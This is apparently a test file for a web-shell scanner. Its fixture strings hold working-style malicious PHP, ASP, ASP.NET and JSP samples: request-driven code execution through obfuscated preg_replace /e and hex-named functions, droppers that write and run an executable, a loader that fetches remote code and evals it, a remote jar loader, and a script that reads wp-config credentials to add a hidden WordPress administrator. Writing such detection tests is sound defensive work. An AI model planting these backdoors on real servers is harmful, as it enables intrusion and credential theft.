import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 40: red team S39R's open /e variants, written by us: preg_replace given an /e pattern that the code works out
// from literals (sprintf, implode or join of an array, str_repeat, a delimiter or the modifier held in a variable),
// with the replacement taken from the request. Look-alikes: the same constructions without /e, or with no request input.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const MALICIOUS: [string, string][] = [
  ['sprintf of four pieces, kept in a variable', `<?php\n$p = sprintf('%s%s%s%s', '/', '.*', '/', 'e');\npreg_replace($p, $_POST['c'], 'x');\n`],
  ['sprintf with the delimiters in its format', `<?php\npreg_replace(sprintf('/%s/%s', '.*', 'e'), $_COOKIE['c'], 'x');\n`],
  ['implode of an array() of pieces', `<?php\npreg_replace(implode('', array('/', '.*', '/', 'e')), $_POST['c'], 'x');\n`],
  ['join of an array kept in a variable', `<?php\n$parts = ['/', '.*', '/e'];\npreg_replace(join('', $parts), $_POST['c'], 'x');\n`],
  ['the delimiter in a variable', `<?php\n$d = '/';\npreg_replace($d . '.*' . $d . 'e', $_REQUEST['c'], 'x');\n`],
  ['str_repeat of the delimiter', `<?php\npreg_replace(str_repeat('/', 1) . '.*' . str_repeat('/', 1) . 'e', $_GET['c'], 'x');\n`],
  ['the delimiter and the modifier in two variables, inside a function', `<?php\nfunction f() {\n  $d = '#'; $m = strtoupper('e');\n  @preg_replace($d . '^' . $d . strtolower($m), $_POST['z'], '');\n}\nf();\n`],
  // (a function's name and its argument cut out of a doc comment: session 39's shape, in red team S39R's variants)
  ['a doc comment cut with mb_substr at mb_strpos, called through call_user_func', `<?php\n/**\n * sys\n * tem($_GET\n * ["q"]);\n */\nclass Notes { }\n$ref = new ReflectionClass('Notes');\n$doc = $ref->getDocComment();\n$name = mb_substr($doc, mb_strpos($doc, 'sy'), 3);\n$name .= mb_substr($doc, mb_strpos($doc, 'te'), 3);\n$arg = mb_substr($doc, mb_strpos($doc, '$_'), 5);\n$arg .= mb_substr($doc, mb_strpos($doc, '["'), 5);\ncall_user_func($name, $arg);\n`],
  ['a doc comment cut with substr, joined as $a = $a . substr(..)', `<?php\n/**\n * sys\n * tem($_GET\n * ["q"]);\n */\nclass Notes { }\n$ref = new ReflectionClass('Notes');\n$doc = $ref->getDocComment();\n$name = substr($doc, stripos($doc, 'sy'), 3);\n$name = $name . substr($doc, stripos($doc, 'te'), 3);\n$arg = substr($doc, stripos($doc, '$_'), 5);\n$arg = $arg . substr($doc, stripos($doc, '["'), 5);\n$name($arg);\n`],
];

const BENIGN: [string, string][] = [
  ['a pattern built by sprintf without /e, over posted text', `<?php\n$tag = 'b';\n$p = sprintf('/\\[%s\\](.*?)\\[\\/%s\\]/is', 'b', 'b');\necho preg_replace($p, '<b>$1</b>', $_POST['text']);\n`],
  ["an /e pattern worked out from literals, its replacement the code's own, the subject a constant", `<?php\n$p = sprintf('/%s/%s', '(\\d+)', 'e');\necho preg_replace($p, "'\\\\1' * 2", '21');\n`],
  ['implode of a list of words as a pattern, /i only, the replacement from a form', `<?php\n$words = ['spam', 'ham'];\n$p = '/' . implode('|', $words) . '/i';\necho preg_replace($p, $_POST['mask'], 'some spam here');\n`],
];

// Session 40 set H28's misses (ASP and ASP.NET), written again by us.
/** A PE header's first 64 bytes (a DOS stub's worth), as written by such a page: the header alone is what an upload gate compares. */
const PE_HEAD = [77, 90, 144, 0, 3, 0, 0, 0, 4, 0, 0, 0, 255, 255, 0, 0, 184, ...Array<number>(43).fill(0), 128, 0, 0, 0];
/** ...and the DOS stub and PE header after it: what a dropper carries (200 bytes here, a whole file in the samples). */
const PE_FILE = [...PE_HEAD, 14, 31, 186, 14, 0, 180, 9, 205, 33, 184, 1, 76, 205, 33, ...Array<number>(122).fill(0), 80, 69, 0, 0];
const MZ = PE_FILE.map((n) => `Chr(${n})`).join('&');
const MZ_GATE = PE_HEAD.slice(0, 4).map((n) => `Chr(${n})`).join('&');
const ASP_MALICIOUS: [string, string, string][] = [
  ['a classic ASP page writing an executable made of Chr() to the temp folder and running it', 'd.asp', `<%\nSub Go()\n  b = ${MZ}\n  b = b & Chr(0) & Chr(184)\n  Set fs = CreateObject("Scripting.FileSystemObject")\n  p = fs.GetSpecialFolder(2) & "\\" & fs.GetTempName() & ".exe"\n  Set f = fs.CreateTextFile(p, 2, 0)\n  f.Write b\n  f.Close\n  Set sh = CreateObject("WScript.Shell")\n  sh.run p, 0, false\nEnd Sub\nGo\n%>\n`],
  ['an ASP.NET page writing an executable from a byte array and starting it', 'd.aspx', `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  byte[] b = new byte[] { ${PE_FILE.map((n) => `0x${n.toString(16).padStart(2, '0')}`).join(', ')} };\n  string p = System.IO.Path.GetTempFileName() + ".exe";\n  System.IO.File.WriteAllBytes(p, b);\n  System.Diagnostics.Process.Start(p);\n}\n</script>\n`],
  ['an ASP.NET database console: the server, user and password typed in the form, and the SQL too', 'q.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nvoid Run(object s, EventArgs e) {\n  var c = new SqlConnection("server=" + Host.Text + ";uid=" + User.Text + ";pwd=" + Pass.Text);\n  c.Open();\n  var cmd = new SqlCommand("select * from " + Table.Text, c);\n  Grid.DataSource = cmd.ExecuteReader(); Grid.DataBind();\n}\n</script>\n<form runat="server"><asp:TextBox id="Host" runat="server"/><asp:TextBox id="User" runat="server"/><asp:TextBox id="Pass" runat="server"/><asp:TextBox id="Table" runat="server"/><asp:GridView id="Grid" runat="server"/></form>\n`],
];
const INPUT_RUNAT_PAGE = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n  System.Diagnostics.Process.Start("\\"" + Prog.Value + "\\"", Args.Value);\n}\n</script>\n<form runat="server"><input type="text" id="Prog" runat="server" /><input type="text" id="Args" runat="server" /></form>\n`;
const ASP_BENIGN: [string, string, string][] = [
  ['an installer connecting to the server the form names and running its own schema', 'install.aspx', `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Install(object s, EventArgs e) {\n  var c = new SqlConnection("server=" + Host.Text + ";database=shop;uid=" + User.Text + ";pwd=" + Pass.Text);\n  c.Open();\n  new SqlCommand(System.IO.File.ReadAllText(Server.MapPath("~/App_Data/schema.sql")), c).ExecuteNonQuery();\n}\n</script>\n`],
  ['an upload gate refusing executables by their first four bytes, logging through WScript.Shell', 'gate.asp', `<%\nhead = Request.BinaryRead(4)\nIsExe = (head = ${MZ_GATE})\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet log = fs.OpenTextFile(Server.MapPath("upload.log"), 8, True)\nlog.WriteLine Now & " refused"\nSet sh = CreateObject("WScript.Shell")\nIf IsExe Then sh.LogEvent 2, "executable upload refused"\n%>\n`],
  ['a download page sending an installer that starts with MZ, run by no one', 'get.asp', `<%\nResponse.ContentType = "application/octet-stream"\nhead = ${MZ}\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet f = fs.OpenTextFile(Server.MapPath("setup.bin"), 1)\nResponse.BinaryWrite head & f.ReadAll\n%>\n`],
  ['a tool page starting a program from its configuration', 'tool.aspx', `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n  var tool = Settings.Get("converter");\n  System.Diagnostics.Process.Start(tool.Value, "--all");\n}\n</script>\n`],
];

describe('scan: ASP and ASP.NET droppers, consoles and launchers (session 40)', () => {
  for (const [name, file, src] of ASP_MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, `/var/www/html/${file}`);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(ASP_MALICIOUS.length, 3));
  it('flags an ASP.NET page starting the program an <input runat="server"> names, suspicious (a page validating it reads the same: red team S40B)', () => {
    const r = scan(INPUT_RUNAT_PAGE, '/var/www/html/p.aspx');
    assert.equal(r.verdict, 'suspicious', why(r));
    assert.ok(r.findings.some((f) => f.layers?.includes('form-controls')), why(r));
  });
  for (const [name, file, src] of ASP_BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, `/var/www/html/${file}`);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(ASP_BENIGN.length, 4));
});

describe('scan: /e patterns the code works out (session 40)', () => {
  for (const [name, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/var/www/html/p.php');
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every variant', () => assert.equal(MALICIOUS.length, 9));
  for (const [name, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, '/var/www/html/p.php');
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(BENIGN.length, 3));
});

// Session 40 sets H27 and H29's misses, written again by us.
const hex = (s: string) => Buffer.from(s).toString('hex');
const H27_MALICIOUS: [string, string, string][] = [
  ['a loader whose variables are named through a table in $GLOBALS, fetching code and running it', 'l.php', `<?php\n$GLOBALS["q1"] = "a";\n$GLOBALS["q2"] = "ch";\nfunction fetch_it($u)\n{\n    \${$GLOBALS["q2"]} = curl_init("{$u}");\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    return curl_exec($ch);\n}\n\${$GLOBALS["q1"]} = fetch_it("https://cdn.example.net/img/1.jpg");\neval("?>" . \${$GLOBALS["q1"]});\n`],
  ['a file manager calling functions whose names it keeps in hexadecimal', 'fm.php', `<?php\n$names = ["${hex('shell_exec')}", "${hex('move_uploaded_file')}", "${hex('system')}", "${hex('file_put_contents')}"];\n$t = array_map('hex2bin', $names);\nif (isset($_POST['c'])) echo $t[0]($_POST['c']);\n`],
];
const WP_ADMIN_SQL = `<?php\nforeach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.')) as $f) {\n  if (basename($f) != 'wp-config.php') continue;\n  $c = file_get_contents($f);\n  preg_match("/DB_PASSWORD['\\"],\\s*['\\"]([^'\\"]+)/", $c, $pw);\n  preg_match("/DB_USER['\\"],\\s*['\\"]([^'\\"]+)/", $c, $us);\n  $db = new PDO('mysql:host=localhost;dbname=wp', $us[1], $pw[1]);\n  $db->prepare("INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)")->execute(['helper', md5('x')]);\n  $id = $db->lastInsertId();\n  $db->prepare("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (?, 'wp_capabilities', ?)")->execute([$id, 'a:1:{s:13:"administrator";b:1;}']);\n}\n`;
const H27_BENIGN: [string, string, string][] = [
  ['a form filling variables named by its fields ($$name)', 'form.php', `<?php\n$fields = ['title', 'body'];\nforeach ($fields as $field) { $$field = trim($_POST[$field] ?? ''); }\n$kind = 'note';\n$$kind = $title;\necho htmlspecialchars($note);\n`],
  ['a migration script making its administrator by SQL in one site it is given', 'migrate.php', `<?php\n$db = new PDO($argv[1], $argv[2], $argv[3]);\n$db->exec("INSERT INTO wp_users (ID, user_login) VALUES (1, 'admin')");\n$db->exec("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (1, 'wp_capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}')");\n`],
  ['a colour table of hexadecimal strings', 'colours.php', `<?php\nreturn ['red' => 'ff0000', 'green' => '00ff00', 'blue' => '0000ff', 'ink' => '65786563', 'sky' => '706f70656e'];\n`],
];
const H29_MALICIOUS: [string, string, string][] = [
  ['a JSP loading a remote jar through ServiceLoader (its classes made as they are iterated)', 'spi.jsp', `<%@ page import="java.util.*, java.net.*" %>\n<%\n  Class f = Class.forName("javax.script.ScriptEngine" + "Factory");\n  Iterator it = ServiceLoader.load(f, new URLClassLoader(new URL[]{new URL("http://203.0.113.5/p.jar")})).iterator();\n  while (it.hasNext()) it.next();\n%>\n`],
];

describe('scan: sets H27 and H29 (session 40)', () => {
  for (const [name, file, src] of [...H27_MALICIOUS, ...H29_MALICIOUS]) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, `/var/www/html/${file}`);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(H27_MALICIOUS.length + H29_MALICIOUS.length, 3));
  it('calls a WordPress administrator made by SQL suspicious (migration and hosting tools do it too: red team S40B)', () => {
    const r = scan(WP_ADMIN_SQL, '/var/www/html/add.php');
    assert.equal(r.verdict, 'suspicious', why(r));
    assert.ok(r.findings.some((f) => f.rule === 'mamori_php_wp_admin_sql'), why(r));
  });
  for (const [name, file, src] of H27_BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, `/var/www/html/${file}`);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(H27_BENIGN.length, 3));
});
